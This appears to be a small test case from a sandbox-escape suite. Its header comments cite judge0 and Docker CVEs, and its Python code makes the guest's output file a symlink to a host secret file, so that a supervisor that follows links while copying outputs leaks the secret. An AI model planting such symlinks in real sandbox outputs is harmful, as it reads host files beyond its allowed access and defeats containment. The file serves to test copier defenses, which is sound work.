# guest: leaves a link to a file of the host as its product
# source: judge0 CVE-2024-28185; Docker CVE-2018-15664; CVE-2026-39861
# attacks: the supervisor that copies products out
# walls: none
# observer: artifact
# oracle: the secret of the host's file is among the products; control: a copier that follows links
# status: ok
# credit: "state": "failed"
import os

from attack import hold

os.symlink("/decoy/secret", "/vol/work/out/product")
hold("left")
